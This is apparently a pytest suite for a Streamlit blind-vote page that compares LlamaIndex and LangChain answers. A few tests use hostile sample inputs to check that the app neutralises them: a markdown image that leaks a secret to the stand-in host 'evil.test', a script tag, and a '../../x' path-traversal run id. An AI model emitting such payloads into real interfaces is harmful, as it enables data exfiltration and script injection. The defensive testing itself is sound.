"""The blind vote: nothing tells before the vote, everything after it, and nothing is lost."""

import secrets
from itertools import count

import pytest
from streamlit.testing.v1 import AppTest

import core
from core import history, vote
from core.evaluate import Question, delete_set, save_set
from pages.parts import palette
from pages.parts.safe_text import JOINER
from pages.parts.voting import polls, score
from tests.core.vote.conftest import ballot, choices_for, result
from tests.pages.conftest import FULL, button, said, texts
from tests.source import ROOT

pytestmark = pytest.mark.usefixtures("sample_loaded")
QUESTIONS = ("How much money do I get back if my train arrives three hours late?", "May I bring my dog?")
NAMES = ("llamaindex", "langchain")
_tokens = count(1)


def opened():
    return core.run(history.open_history(core.Settings.load()))


def begin(*ballots, workspace=FULL, **plan):
    """A vote of the history, with these ballots if any."""
    where = core.run(core.Workspace.open(core.Settings.load(), workspace))
    poll = vote.Poll.begin(opened(), where, vote.Plan(**plan), name=f"Vote {next(_tokens)}")
    for item in ballots:
        poll.add(item)
    return poll


def join(poll, token=None, workspace=FULL):
    """A voter's browser at the vote's address; the same token is the same browser."""
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    app.session_state["voter token"] = token or secrets.token_hex(16)
    for name, value in {"workspace": workspace, "run": poll.run_id}.items():
        app.query_params[name] = value
    return app.run().switch_page("pages/compare.py").run()


def press(app, key):
    return app.button(key=key).click().run()


def everything(app):
    """All that the main part of the page sends to a browser, keys and tooltips included."""
    protos = [str(block.proto) for block in app.main if getattr(block, "proto", None) is not None]
    return " ".join([*protos, *(str(item.key) for item in app.button)]).lower()


def test_a_vote_begins_with_the_samples_questions(visit):
    app = visit("compare", workspace=FULL)
    app.segmented_control(key="view").set_value("Blind vote").run()
    app.selectbox(key="vote-source").set_value("The sample's questions").run()
    app.number_input(key="vote-number-The sample's questions").set_value(3).run()
    button(app, "Begin the vote").click().run()
    assert not app.exception
    assert "Question 1 of 3" in texts(app)
    assert [item.label for item in app.button if item.key and item.key.startswith("vote-")] == [
        *("A is better", "B is better", "Equally good", "Both bad"),
    ]


def test_a_saved_question_set_can_be_voted_on(visit):
    where = core.run(core.Workspace.open(core.Settings.load(), FULL))
    save_set(where, "Board", [Question("q1", "Is there wifi on board?")])
    app = visit("compare", workspace=FULL)
    app.segmented_control(key="view").set_value("Blind vote").run()
    app.selectbox(key="vote-source").set_value("Set: Board").run()
    button(app, "Begin the vote").click().run()
    assert "Is there wifi on board" in texts(app)
    delete_set(where, "Board")


def test_nothing_on_the_page_tells_the_engines_apart_before_the_vote():
    app = join(begin(questions=QUESTIONS))
    assert "Question 1 of 2" in texts(app)
    shown = everything(app)
    assert "a is better" in shown
    assert not [name for name in (*NAMES, "answered in") if name in shown]
    shown = everything(press(press(app, "vote-a"), "reveal"))
    assert all(name in shown for name in (*NAMES, "answered in"))


def test_a_vote_may_be_changed_until_who_was_who_is_seen():
    poll = begin(ballot(0))
    app = press(join(poll), "vote-a")
    assert "You may change it" in texts(app)
    app = press(press(app, "vote-b"), "reveal")
    assert [item.choice for item in poll.result().votes] == ["b"]
    shown = texts(app)
    assert "A was" in shown
    assert "LlamaIndex" in shown
    assert "answered in 900 ms" in shown
    assert "LangChain preferred in 1 of 1 decided vote" in shown
    assert not [item for item in app.button if item.key == "vote-a"]


def test_no_score_is_seen_before_the_vote():
    poll = begin(ballot(0), ballot(1))
    poll.cast("b0", "bob", "a")
    assert "preferred" not in texts(join(poll))


def test_each_voter_goes_on_after_a_reload_where_that_voter_stopped():
    poll, ada = begin(ballot(0), ballot(1)), secrets.token_hex(16)
    press(press(join(poll, ada), "vote-a"), "reveal")
    assert "ferry 1" in texts(join(poll, ada))
    assert "ferry 0" in texts(join(poll))
    press(join(poll, ada), "vote-tie")  # not revealed: it may still be changed
    assert button(join(poll, ada), "Equally good").proto.type == "primary"


def test_the_next_person_on_the_same_device_begins_at_the_first_question():
    poll = begin(ballot(0), ballot(1))
    app = press(press(join(poll), "vote-a"), "reveal")
    button(app, "Somebody else").click().run()
    assert "ferry 0" in texts(app)
    press(app, "vote-b")
    assert [item.choice for item in poll.result().votes] == ["a", "b"]


def test_after_the_reveal_the_others_votes_on_the_question_are_told():
    poll = begin(ballot(0))
    poll.cast("b0", "bob", "tie")
    app = press(press(join(poll), "vote-a"), "reveal")
    assert "Of 2 voters on this question: 1 for LlamaIndex, 0 for LangChain, 1 for a tie" in texts(app)


def test_answers_that_are_the_same_are_said_to_be_and_can_be_skipped():
    poll = begin(ballot(0, texts=("At noon.", "At  noon.")), ballot(1))
    app = join(poll)
    assert "Both answers are the same, word for word" in texts(app)
    app = press(app, "skip-ballot")
    assert "ferry 1" in texts(app)
    assert vote.tally(poll.result()).skipped == 1


def test_a_question_that_one_engine_failed_on_cannot_be_voted_on():
    poll = begin(ballot(0, errors=(None, "The endpoint refused: check the key.")), ballot(1))
    app = join(poll)
    assert "The endpoint refused" in app.warning[0].value
    assert not [item for item in app.button if item.key == "vote-a"]
    assert "ferry 1" in texts(press(app, "skip-ballot"))


def test_the_host_types_questions_and_one_that_cannot_be_asked_gets_a_sentence():
    app = join(begin())
    app.text_input[-1].set_value("x" * 9000)
    button(app, "Ask both").click().run()
    assert "9,000 characters" in said(app)
    app.text_input[-1].set_value("May I bring my dog?")
    button(app, "Ask both").click().run()
    assert "### May I bring my dog" in texts(app)


def test_voters_who_arrive_at_once_do_not_ask_twice():
    poll, where = begin(questions=QUESTIONS), core.run(core.Workspace.open(core.Settings.load(), FULL))
    plan = poll.result().plan
    for _ in range(2):
        polls.ask(where, poll, plan, QUESTIONS[0], 0)
    assert polls.under_way(poll.run_id)[1].wait(30)
    assert polls.under_way(poll.run_id) is None
    polls.ask(where, poll, plan, QUESTIONS[0], 0)  # from a page that was drawn before the answer came
    asked = polls.under_way(poll.run_id)
    assert asked is None or asked[1].wait(30)
    assert len(poll.result().ballots) == 1


def test_a_vote_that_was_closed_meanwhile_says_so():
    poll = begin(ballot(0))
    app = join(poll)
    poll.close()
    assert "This vote is closed" in said(press(app, "vote-a"))
    assert not poll.result().votes


def test_whoever_looks_at_the_score_sees_the_result_as_soon_as_the_vote_is_closed(monkeypatch):
    poll, ada = begin(ballot(0)), secrets.token_hex(16)
    app = press(press(join(poll, ada), "vote-a"), "reveal")
    found = vote.Poll.result
    asked = count()

    def result_then_closed(self):
        """Closed by the host between the page's look at the vote and the score's."""
        if next(asked) == 1:
            poll.close()
        return found(self)

    monkeypatch.setattr(vote.Poll, "result", result_then_closed)
    assert "Open it again" in [item.label for item in app.run().button]


def test_a_hidden_score_shows_when_the_vote_is_closed():
    poll, ada = begin(ballot(0), hide_score=True), secrets.token_hex(16)
    app = press(press(join(poll, ada), "vote-a"), "reveal")
    assert "hidden until the vote is closed" in texts(app)
    assert "preferred" not in texts(app)
    poll.close()
    assert "LlamaIndex preferred in 1 of 1" in texts(join(poll, ada))


def test_a_closed_vote_shows_its_results_and_may_be_opened_again():
    poll = begin(ballot(0), ballot(1))
    for voter, choice in (("ada", "a"), ("bob", "b")):
        poll.cast("b0", voter, choice, name=voter)
    poll.close()
    app = join(poll)
    assert "Level, 1 to 1 in 2 decided votes" in texts(app)
    assert app.table[0].value.iloc[:, 0].tolist() == ["ada", "bob"]
    assert app.table[1].value["Outcome"].tolist()[0] == "level"
    button(app, "Open it again").click().run()
    assert "ferry 0" in texts(app)


@pytest.mark.parametrize("run_id", ["f" * 32, "../../x"])
def test_an_address_that_leads_to_no_vote_says_so(run_id):
    poll = begin()
    poll.run_id = run_id
    app = join(poll)
    assert "no such run" in said(app)
    assert "Read two answers" in texts(button(app, "All votes").click().run())


def test_whoever_is_in_another_workspace_may_look_but_not_vote():
    poll = begin(ballot(0), workspace="elsewhere")
    poll.close()
    app = join(poll)
    assert "Nobody has voted yet" in texts(app)
    assert not [item for item in app.button if item.label == "Open it again"]


def test_a_presentation_has_nothing_around_the_question_and_a_way_out():
    app = join(begin(ballot(0)))
    button(app, "Present").click().run()
    assert not app.title
    assert not app.sidebar.markdown
    assert not app.segmented_control
    button(app, "Leave the presentation").click().run()
    assert app.title[0].value == "Compare"
    assert "ferry 0" in texts(app)


def test_what_a_document_or_a_model_says_stays_text():
    bad = ballot(0, texts=("![x](https://evil.test/?q=secret)", "<script>alert(1)</script> :red[x]"))
    shown = texts(press(press(join(begin(bad)), "vote-a"), "reveal"))
    assert "![x](https" not in shown
    assert "<script" not in shown
    assert ":red[x]" not in shown


def test_the_score_is_drawn_in_the_engines_colours_with_its_interval():
    found = vote.tally(result(choices_for("langchain", 7, 10)))
    drawn = score.figure(found)
    bars = [part for part in drawn["data"] if part["type"] == "bar"]
    assert [bar["name"] for bar in bars] == ["LangChain 7", "LlamaIndex 3"]
    assert [bar["marker"]["color"] for bar in bars] == [
        palette.engine(name).color for name in ("langchain", "llamaindex")
    ]
    share = found.share("langchain")
    assert drawn["data"][-1]["x"] == [share.low * 100, share.high * 100]


@pytest.mark.parametrize(
    ("questions", "told"),
    [(9, "No measurable change: LlamaIndex had 44%"), (8, "people voted on different questions")],
    ids=["compared", "refused"],
)
def test_two_votes_are_compared_in_the_history_or_it_is_said_why_not(visit, questions, told):
    pair = [result(choices_for("llamaindex", wins, of)) for wins, of in ((4, 9), (6, questions))]
    before, now = (vote.store_votes(opened(), item, workspace="votes-compared") for item in pair)
    app = visit("history", workspace="votes-compared", run=now, **{"with": before})
    assert not app.exception
    shown = [*(part.value for part in app.warning), texts(app)]
    assert told in "".join(shown).replace("\\", "").replace(JOINER, "")


def test_an_open_vote_is_in_the_history_and_asks_before_it_shows_who_was_who(visit):
    poll = begin(ballot(0), workspace="votes-open")
    listed = texts(visit("history", workspace="votes-open"))
    assert ":material/how_to_vote: open" in listed
    assert "1 question" in listed
    poll.cast("b0", "ada", "a")
    app = visit("history", workspace="votes-open", run=poll.run_id)
    assert "look when you have voted yourself" in app.info[0].value
    assert "LlamaIndex" not in texts(app)
    assert not app.warning
    assert "LlamaIndex preferred" in texts(app.toggle[0].set_value(True).run())


def test_a_vote_that_is_opened_again_is_read_anew_by_who_has_it_open_in_the_history(visit):
    poll = begin(ballot(0), workspace="votes-reopened")
    poll.cast("b0", "ada", "a")
    poll.close()
    app = visit("history", workspace="votes-reopened", run=poll.run_id)
    assert "1 of 1 decided vote" in texts(app)
    poll.reopen()
    poll.cast("b0", "bob", "a")
    app.run()
    assert "look when you have voted yourself" in app.info[0].value
    poll.close()
    assert "2 of 2 decided votes" in texts(app.run())


def test_the_report_has_the_pages_colours():
    page = vote.export_html(result(["a"])).lower()
    assert all(palette.engine(name).color.lower() in page for name in NAMES)


def test_a_vote_outlives_the_documents_it_was_about():
    poll = begin(ballot(0), workspace="emptied")
    poll.cast("b0", "ada", "a")
    poll.close()
    app = join(poll, workspace="emptied")
    assert "LlamaIndex preferred in 1 of 1" in texts(app)


def test_a_vote_is_found_again_from_another_page_and_left_for_another_view():
    poll = begin(ballot(0))
    app = join(poll)
    app.segmented_control(key="view").set_value("One question").run()
    assert "run" not in app.query_params
    app.segmented_control(key="view").set_value("Blind vote").run()
    assert "ferry 0" in texts(app)
    app.switch_page("pages/home.py").run()
    del app.query_params["run"]  # as the navigation does
    assert "ferry 0" in texts(app.switch_page("pages/compare.py").run())
    app.switch_page("pages/home.py").run()
    app.query_params["run"] = poll.run_id
    assert "ferry 0" in texts(app.switch_page("pages/compare.py").run())
